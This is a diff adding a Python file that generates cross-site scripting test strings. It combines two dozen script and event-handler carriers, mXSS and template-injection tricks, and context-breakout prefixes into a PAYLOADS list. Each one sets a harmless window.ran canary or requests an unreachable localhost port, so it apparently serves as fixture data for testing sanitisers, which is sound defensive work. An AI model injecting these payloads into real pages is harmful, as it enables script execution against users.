@@ -1,0 +1,46 @@
+"""Words that would run, or fetch something, or end where they stand, if a page took them for its own. Each says who it is."""
+
+CARRIERS = [
+    "<script>window.ran={n}</script>",
+    "<img src=x onerror=window.ran={n}>",
+    "<svg onload=window.ran={n}>",
+    "<svg><script>window.ran={n}</script></svg>",
+    "<iframe srcdoc='<script>parent.ran={n}</script>'></iframe>",
+    "<iframe src=javascript:parent.ran={n}></iframe>",
+    "<a href=javascript:window.ran={n} autofocus onfocus=window.ran={n}>here</a>",
+    "<details open ontoggle=window.ran={n}>",
+    "<video><source onerror=window.ran={n}></video>",
+    "<input autofocus onfocus=window.ran={n}>",
+    "<body onload=window.ran={n}>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran={n}>",
+    "<object data='//127.0.0.1:1/{n}'></object><embed src='//127.0.0.1:1/{n}'>",
+    "<link rel=stylesheet href=//127.0.0.1:1/{n}><style>@import '//127.0.0.1:1/{n}'</style>",
+    "<meta http-equiv=refresh content='0;url=//127.0.0.1:1/{n}'>",
+    "<base href=//127.0.0.1:1/{n}>",
+    "<form action=//127.0.0.1:1/{n}><button autofocus>Save</button></form>",
+    "<script type=module>import '//127.0.0.1:1/{n}'</script>",
+    "<template shadowrootmode=open><script>window.ran={n}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.ran={n}>'>",
+    "<script src=data:text/javascript,window.ran={n}></script>",
+    "javascript:window.ran={n}",
+    "&lt;img src=x onerror=window.ran={n}&gt;&#60;script&#62;window.ran={n}&#60;/script&#62;",
+    "{% include 'x' %}{{ 7|add:{n} }}${window.ran={n}}`${ran={n}}`",
+    "constructor[{n}]__proto__.ran={n};window['ran']={n}",
+    "<x style='background:url(//127.0.0.1:1/{n})' onanimationstart=window.ran={n}>",
+]
+WAYS_OUT = [
+    "{}",
+    '"><{}',
+    '">{}',
+    "'>{}",
+    "</title></textarea></style></script>{}",
+    "--><!--{}-->",
+    "]]>{}<![CDATA[",
+    "' onfocus='window.ran=1' autofocus x='{}",
+    '" onmouseover="window.ran=1" accesskey=x a="{}',
+    "</p></li></ul></section></div></main>{}",
+    "\u2028\u2029\u202e\ufeff{}",
+    '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e\\"};//{}',
+]
+
+PAYLOADS = [out.replace("{}", one.replace("{n}", str(number))) for number, one in enumerate(CARRIERS, 2) for out in WAYS_OUT]
